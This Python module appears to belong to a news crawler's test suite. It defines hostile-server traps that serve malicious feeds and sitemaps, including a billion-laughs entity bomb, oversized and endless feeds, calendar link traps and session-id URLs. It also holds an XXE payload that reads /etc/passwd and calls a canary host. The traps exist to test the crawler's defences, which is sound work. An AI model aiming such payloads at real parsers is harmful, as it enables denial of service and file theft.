"""Feeds, sitemaps and front pages that are bombs, spies, or without end."""

from __future__ import annotations

from itertools import count

from newsroom.hostile.trap import Exchange, Trap

_XML = {"Content_Type": "application/xml"}
_visits = count()


def _billion_laughs(root: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "ha">{levels}]>'


def _entity_feed(exchange: Exchange) -> None:
    body = f"""{_billion_laughs("rss")}<rss version="2.0"><channel><title>&l9;</title>
<item><title>&l9;</title><link>{exchange.base}story</link></item></channel></rss>"""
    exchange.respond(body.encode(), **_XML)


def _entity_sitemap(exchange: Exchange) -> None:
    body = f"""{_billion_laughs("urlset")}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<url><loc>{exchange.base}&l9;</loc></url><url><loc>{exchange.base}story</loc></url></urlset>"""
    exchange.respond(body.encode(), **_XML)


def _spying_feed(exchange: Exchange) -> None:
    body = f"""<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{exchange.canary}evil.dtd" [
<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "{exchange.canary}entity">]>
<rss version="2.0"><channel><title>&file;&net;</title>
<item><title>&file;</title><link>{exchange.base}story</link></item></channel></rss>"""
    exchange.respond(body.encode(), **_XML)


def _million_entries(exchange: Exchange) -> None:
    entry = "<item><title>t</title><link>{base}gone/{n}</link></item>"
    story = f"<item><title>Story</title><link>{exchange.base}story</link></item>"
    head = f'<rss version="2.0"><channel><title>x</title>{story}'
    exchange.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nConnection: close\r\n\r\n")
    exchange.send(head.encode())
    for thousand in range(1_000):
        numbers = range(thousand * 1_000, (thousand + 1) * 1_000)
        exchange.send("".join(entry.format(base=exchange.base, n=n) for n in numbers).encode())


def _crowded_feed(exchange: Exchange) -> None:
    """As many entries as pass under the bound on bytes."""
    story = f"<item><link>{exchange.base}story</link></item>"
    entries = "".join(f"<item><link>/gone/{number}</link></item>" for number in range(400_000))
    exchange.respond(f'<rss version="2.0"><channel>{story}{entries}</channel></rss>'.encode(), **_XML)


def _crowded_sitemap(exchange: Exchange) -> None:
    urls = "".join(f"<url><loc>{exchange.base}gone/{number}</loc></url>" for number in range(250_000))
    body = f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'
    exchange.respond(body.encode(), **_XML)


def _html_for_feed(exchange: Exchange) -> None:
    exchange.respond(
        b"<!doctype html><html><body><h1>Feed moved</h1></body></html>", Content_Type="text/html"
    )


def _endless_index(exchange: Exchange) -> None:
    maps = "".join(f"<sitemap><loc>{exchange.base}maps/{next(_visits)}.xml</loc></sitemap>" for _ in range(5))
    body = f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{maps}</sitemapindex>'
    exchange.respond(body.encode(), **_XML)


def _calendar(exchange: Exchange) -> None:
    here = int(exchange.path.rpartition("/")[2]) if exchange.path.startswith("/calendar/") else 0
    days = "".join(
        f'<li><a href="/calendar/{here * 10 + n}">All events of day {here * 10 + n} of the year</a></li>'
        for n in range(1, 11)
    )
    story = '<h2><a href="/story">The one story that this front page has to tell</a></h2>'
    exchange.respond(f"<html><body>{story}<ul>{days}</ul></body></html>".encode(), Content_Type="text/html")


def _session_ids(exchange: Exchange) -> None:
    session = f"{next(_visits):08x}"
    body = f"""<rss version="2.0"><channel><title>x</title>
<item><title>Story</title><link>{exchange.base}story;jsessionid={session}?PHPSESSID={session}</link></item>
</channel></rss>"""
    exchange.respond(body.encode(), **_XML)


TRAPS = (
    Trap(name="entity-bomb-feed", at="/rss.xml", expected="fetched/ok", act=_entity_feed),
    Trap(
        name="entity-bomb-sitemap",
        at="/map.xml",
        sitemap="/map.xml",
        expected="fetched/ok",
        act=_entity_sitemap,
    ),
    Trap(name="spying-feed", at="/rss.xml", expected="fetched/ok", act=_spying_feed),
    Trap(name="million-entry-feed", at="/rss.xml", expected="failed/too_large", act=_million_entries),
    Trap(name="crowded-feed", at="/rss.xml", expected="fetched/ok", act=_crowded_feed),
    Trap(
        name="crowded-sitemap",
        at="/map.xml",
        sitemap="/map.xml",
        expected="fetched/ok",
        act=_crowded_sitemap,
    ),
    Trap(name="html-for-feed", at="/rss.xml", expected="failed/not_a_feed", act=_html_for_feed),
    Trap(
        name="endless-sitemaps",
        at="/maps/",
        sitemap="/maps/first.xml",
        watched="/maps/first.xml",
        expected="fetched/ok",
        act=_endless_index,
    ),
    Trap(name="calendar", at="/calendar", section="/calendar", expected="fetched/ok", act=_calendar),
    Trap(name="session-ids", at="/rss.xml", expected="fetched/ok", act=_session_ids),
)
